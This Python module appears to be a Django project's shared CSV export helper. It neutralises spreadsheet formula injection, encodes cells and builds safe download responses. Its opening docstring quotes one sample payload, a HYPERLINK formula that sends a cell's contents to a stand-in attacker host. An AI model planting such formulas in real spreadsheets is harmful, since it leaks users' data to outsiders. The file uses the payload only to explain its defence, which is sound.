"""The one CSV helper of the project: every export (signals report, dashboard tables and
drill-downs, the processing log, the admin) writes through it.

Formula injection (CSV injection): a spreadsheet runs a cell as a formula when its text starts
with = + - @ (or TAB/CR/LF, or the full-width forms ＝ ＋ － ＠), also after leading spaces, e.g.
``=HYPERLINK("http://evil.example/?"&A1,"klik")``. Such text gets a leading apostrophe, which
spreadsheets show as text and do not evaluate. Numbers we computed are written as numbers.

Files are semicolon-separated UTF-8 with a BOM: what Dutch spreadsheet settings expect, and the
BOM makes Excel read the accents.
"""

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
DELIMITER = ";"
_FILENAME_DROP_RE = re.compile(r"[^A-Za-z0-9._-]")


def defuse(text: str) -> str:
    if text.lstrip(" ").startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def csv_cell(value) -> str | int | float | Decimal:
    """One cell, safe against formula injection. None becomes an empty cell, booleans 'ja'/'nee',
    numbers stay numbers, dates ISO 8601 (datetimes in local time, to the minute)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nee"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return defuse(str(value))


def _writer(out):
    return csv.writer(out, delimiter=DELIMITER, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")


def csv_text(rows: Iterable[Iterable]) -> str:
    """The rows as CSV text, every cell through `csv_cell`."""
    buffer = io.StringIO()
    writer = _writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(cell) for cell in row])
    return buffer.getvalue()


def csv_filename(name: str) -> str:
    """A download name that is safe in a header: ASCII letters, digits, - _ . only (spaces
    become hyphens), ending in .csv."""
    stem = name[:-4] if name.lower().endswith(".csv") else name
    stem = _FILENAME_DROP_RE.sub("", "-".join(stem.split())).strip(".-") or "export"
    return f"{stem[:120]}.csv"


class _Echo:
    def write(self, value):
        return value


def csv_response(rows: Iterable[Iterable], *, filename: str, header: Iterable | None = None, stream: bool = False):
    """An attachment download of `rows` (with `header` first when given), never cached.

    ``stream=True`` writes row by row (StreamingHttpResponse) for exports that can be large,
    such as the processing log or a dashboard drill-down; rows may then be a generator over
    ``queryset.iterator()``."""
    def lines():
        writer = _writer(_Echo())
        yield "\ufeff"
        if header is not None:
            yield writer.writerow([csv_cell(c) for c in header])
        for row in rows:
            yield writer.writerow([csv_cell(c) for c in row])

    if stream:
        response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    else:
        response = HttpResponse("".join(lines()), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{csv_filename(filename)}"'
    response["Cache-Control"] = "no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response
